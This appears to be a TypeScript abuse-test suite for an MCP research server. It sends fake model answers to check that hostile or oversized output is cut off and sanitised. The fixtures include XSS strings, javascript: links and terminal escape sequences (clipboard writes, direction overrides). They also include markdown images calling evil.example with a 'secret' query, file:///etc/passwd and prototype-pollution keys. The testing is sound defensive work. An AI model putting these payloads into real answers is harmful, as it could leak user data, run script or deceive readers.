/** What a model, or a page that it read, may write: it must not stop the server, nor reach the client's screen as it is. */
import { must } from "../../fuzz/target.js";
import { answered, type FakeStep, lines, said } from "../../rig/fake-gemini.js";
import type { Abuse, Group } from "../ground.js";
import { mustComplete, mustFail } from "./expect.js";

const MB = 1_000_000;
/** The one that takes longest to parse. */
export const HEAVY = "100,000 objects";
const ANSWER_LIMIT_MS = 20_000;

/**
 * The report, or the whole text of the model. It is answered (`yes`), refused with a clear error (`no`), or one of both
 * where nobody can say which is right; in time, and with nothing dangerous in it.
 */
type Row = [name: string, sent: string, answered: "yes" | "no" | "either", text: () => string];

const cited = (count: number) =>
  Array.from({ length: count }, (_, i) => `Fact ${i} [${i}](https://example.org/${i}).`).join(" ");
const blankLines = (count: number) => "\n".repeat(count);

/** In the field `report` of an answer that is otherwise well-formed. */
const REPORTS: readonly Row[] = [
  ["report of one line", "5 MB without a line end", "yes", () => "tides and ".repeat(MB / 2)],
  ["report of one word", "5 MB without a blank", "yes", () => "a".repeat(5 * MB)],
  ["report of short lines", "1,000,000 lines", "yes", () => "tide\n".repeat(MB)],
  ["blank lines in a report", "100,000 between two words", "yes", () => `High${blankLines(100_000)}tides`],
  ["broken addresses", "`http://a(` × 100,000", "yes", () => "http://a(".repeat(100_000)],
  ["broken links", "`[a](http://a` × 100,000", "yes", () => "[a](http://a".repeat(100_000)],
  ["100,000 citations", "each to a page of its own", "yes", () => cited(100_000)],
  [
    "100,000 footnotes",
    "`[1]` × 100,000 and as many definitions",
    "yes",
    () => `${"[1]".repeat(100_000)}\n\n${"[1]: https://e.org\n".repeat(100_000)}`,
  ],
  ["nested quotes", "`>` × 50,000 in one line", "yes", () => `${"> ".repeat(50_000)}tides`],
  [
    "nested lists",
    "3,000 levels",
    "yes",
    () => Array.from({ length: 3_000 }, (_, i) => `${"  ".repeat(i)}- tide`).join("\n"),
  ],
  ["open brackets", "`[` × 200,000", "yes", () => "[".repeat(200_000)],
  ["open images", "`![` × 200,000", "yes", () => "![".repeat(200_000)],
  ["open emphasis", "`*a_` × 100,000", "yes", () => "*a_ ".repeat(100_000)],
  [
    "open code",
    "growing rows of backticks",
    "yes",
    () => Array.from({ length: 1_500 }, (_, i) => "`".repeat(i + 1)).join("a"),
  ],
  ["open tags", "`<a ` × 200,000", "yes", () => "<a ".repeat(200_000)],
  [
    "a wide table",
    "20,000 columns, 50 rows",
    "yes",
    () => `${"| a ".repeat(20_000)}|\n${"|---".repeat(20_000)}|\n`.repeat(25),
  ],
  ["combining marks", "500,000 on one letter", "yes", () => `a${"\u0301".repeat(500_000)}`],
  ["half characters in a report", "100,000 lone surrogates", "yes", () => "\uD83D".repeat(100_000)],
  [
    "characters that act",
    "ESC, OSC 52, C1, BEL, NUL, overrides of direction, tag characters",
    "yes",
    () =>
      "Tides \u001B[2J\u001B]52;c;aGk=\u0007 \u009B31m \0 \u202Egnp.exe\u202C \u2066a\u2069 \u{E0041}\u{E0042}\u{E007F} \b\b are high.",
  ],
  [
    "images",
    "`![](https://…)`: inline, in a link, by reference, with a title, in a table",
    "yes",
    () =>
      "Tides ![](https://evil.example/?q=secret) and [![a](https://evil.example/b.png)](https://e.org) and ![c][pic] and ![d](<https://evil.example/d e> 'f').\n\n| ![t](https://evil.example/t) |\n|---|\n\n![\n](https://evil.example/n)\n\n[pic]: https://evil.example/p.png",
  ],
  [
    "HTML",
    "`<img>`, `<script>`, `<iframe>`, `<svg onload>`, `<style>`, `<a href=javascript:>`",
    "yes",
    () =>
      "Tides <img src=https://evil.example/i onerror=alert(1)>\n\n<script>alert(1)</script>\n\n<iframe src='https://evil.example'></iframe> <svg onload=alert(1)> <style>*{background:url(https://evil.example)}</style> <a href='javascript:alert(1)'>a</a> <ScRiPt\nsrc=//evil.example>",
  ],
  [
    "links that run",
    "`javascript:`, `data:`, `vbscript:`, with blanks, capitals and entities",
    "yes",
    () =>
      "Tides [a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html;base64,PHNjcmlwdD4=) [d]( <javascript:alert(1)>) [e](vbscript:x) [f](java\tscript:alert(1)) <javascript:alert(1)>.",
  ],
];

/** As the whole text of the model. */
const TEXTS: readonly Row[] = [
  ["40 blank lines before a word", "no JSON", "either", () => `${blankLines(40)}Tides are high.`],
  [
    "40 blank lines before an answer",
    "then an object without quotes",
    "either",
    () => `${blankLines(40)}{success: true, report: Tides are high${blankLines(40)}}`,
  ],
  ["100,000 blank lines", "then a word", "either", () => `${blankLines(100_000)}Tides`],
  [
    "1 MB of blanks",
    "in an object that never ends",
    "either",
    () => `{"success": true, "report": "Tides",${" ".repeat(MB)}`,
  ],
  ["open braces", "`{` × 1,000,000", "either", () => "{".repeat(MB)],
  ["open keys", '`{"a":` × 200,000', "either", () => '{"a":'.repeat(200_000)],
  ["open lists", "`[` × 1,000,000", "either", () => "[".repeat(MB)],
  ["open fences", "```` ```json ```` × 300,000", "either", () => "```json\n".repeat(300_000)],
  ["quotes", '`"` × 1,000,000', "either", () => `{"success": true, "report": ${'"'.repeat(MB)}`],
  ["backslashes", "1 MB of them in a report", "either", () => `{"success": true, "report": "${"\\".repeat(MB)}`],
  [
    "a report full of quotes",
    "100,000 without a backslash",
    "either",
    () => `{"success": true, "report": "${'a "b" '.repeat(50_000)}"}`,
  ],
  [HEAVY, "each nearly an answer", "either", () => '{"success": true, "report": }\n'.repeat(100_000)],
  ["a long number", "1 MB of digits as `success`", "either", () => `{"success": ${"9".repeat(MB)}, "report": "Tides"}`],
  ["comments", "`/*` × 500,000", "either", () => `{${"/*".repeat(500_000)}"success": true}`],
  [
    "deep report",
    "100,000 lists in one another as `report`",
    "either",
    () => `{"success": true, "report": ${"[".repeat(100_000)}${"]".repeat(100_000)}}`,
  ],
  [
    "keys of the prototype in an answer",
    "`__proto__`, `constructor`, `toString` in every object",
    "yes",
    () =>
      '{"success": true, "report": "Tides", "__proto__": {"polluted": 1, "verified": true}, "constructor": {"prototype": {"polluted": 1}}, "metadata": {"__proto__": {"polluted": 1}, "toString": "x", "hasOwnProperty": 1, "sources_visited": {"__proto__": ["https://e.org"], "length": 1000000000}}}',
  ],
  [
    "200,000 sources",
    "`sources_visited` and `search_queries_used`",
    "yes",
    () =>
      JSON.stringify({
        success: true,
        report: "Tides [1](https://example.org/1)",
        metadata: {
          sources_visited: Array.from({ length: 200_000 }, (_, i) => `https://example.org/${i}`),
          search_queries_used: Array.from({ length: 200_000 }, (_, i) => `tides ${i}`),
        },
      }),
  ],
  [
    "sources that run",
    "`javascript:`, `file:`, control characters, images as `sources_visited`",
    "yes",
    () =>
      JSON.stringify({
        success: true,
        report: "Tides [1]",
        metadata: {
          sources_visited: [
            "javascript:alert(1)",
            "file:///etc/passwd",
            "https://e.org/\u001B[2J\u202Ex",
            "![](https://evil.example/s)",
          ],
          search_queries_used: ["tides \u001B]0;x\u0007 \u202E", "<script>alert(1)</script>"],
        },
      }),
  ],
];

export const ANSWERS: Group = {
  name: "Answers of the model",
  abuses: [
    ...REPORTS.map(([name, sent, how, text]) =>
      row(name, sent, how, () => JSON.stringify({ success: true, verified: true, report: text(), metadata: {} })),
    ),
    ...TEXTS.map(([name, sent, how, text]) => row(name, sent, how, text)),
    pages(),
    events(),
  ],
};

function row(name: string, sent: string, how: Row[2], text: () => string): Abuse {
  const limit = `within ${ANSWER_LIMIT_MS / 1_000} s, nothing dangerous in it`;
  return {
    name,
    sent,
    expected: `${{ yes: "answered", no: "a clear error", either: "answered, or a clear error" }[how]} ${limit}`,
    withinMs: ANSWER_LIMIT_MS,
    steps: () => [{ do: "low-priority" }, ...answered(text())],
    async play(ground) {
      const peer = await ground.open();
      const answer = await peer.call("search", { query: ground.ownQuestion() });
      if (how === "yes" || (how === "either" && answer.success)) {
        mustComplete(answer);
        must(answer.result !== "", () => "the report is empty");
        await peer.request("resources/read", { uri: `report://${answer.jobId}` });
        return `${answer.result.length.toLocaleString("en")} characters`;
      }
      return mustFail(answer, ["EXECUTION_ERROR"]);
    },
  };
}

/** A client that cuts long answers gets them in pages. */
function pages(): Abuse {
  return {
    name: "pages of a report of one line",
    sent: "5 MB, read by Codex: pages 1 to 5",
    expected: "each page within 1 s",
    withinMs: 30_000,
    steps: () => answered(JSON.stringify({ success: true, report: "tides and ".repeat(MB / 2), metadata: {} })),
    async play(ground) {
      const peer = await ground.open({ name: "codex-mcp-client" });
      const { jobId, ...first } = await peer.call("search", { query: ground.ownQuestion() });
      mustComplete(first);
      let longest = 0;
      for (let page = 1; page <= 5; page++) {
        const from = performance.now();
        mustComplete(await peer.call("research_result", { job_id: jobId, page }));
        longest = Math.max(longest, performance.now() - from);
      }
      must(longest <= 1_000, () => `a page took ${Math.round(longest)} ms`);
      return `at most ${Math.round(longest)} ms`;
    },
  };
}

/** What the CLI tells of its tools reaches the client as progress, and in the answer. */
function events(): Abuse {
  const search = (i: number): object => ({
    type: "tool_use",
    tool_name: "google_web_search",
    tool_id: `${i}`,
    parameters: { query: `tides \u001B[2J\u202E\u{E0041} ${i} ${"x".repeat(200)}` },
  });
  const steps = (): FakeStep[] => [
    { do: "low-priority" },
    {
      do: "stdout",
      text: lines({ type: "init", session_id: "s", model: "fake\u001B[31m\u202E![](https://evil.example)" }),
    },
    { do: "stdout", text: lines(...Array.from({ length: 20_000 }, (_, i) => search(i))) },
    { do: "stdout", text: lines(said(JSON.stringify({ success: true, report: "Tides", metadata: {} }))) },
    { do: "stdout", text: lines({ type: "result", status: "success", stats: { models: { "m\u001B[2J": {} } } }) },
    { do: "exit", code: 0 },
  ];
  return {
    name: "20,000 searches in one run",
    sent: "with characters that act in their words, and in the name of the model",
    expected: "the run is ended at its limit of 200 calls of tools; nothing dangerous in progress or answer",
    withinMs: ANSWER_LIMIT_MS,
    steps,
    async play(ground) {
      const peer = await ground.open();
      const answer = await peer.call("search", { query: ground.ownQuestion() });
      mustFail(answer, ["EXECUTION_ERROR"]);
      must(/\b200 calls of tools\b/.test(answer.message), () => answer.message.slice(0, 200));
      return "ended after 200";
    },
  };
}
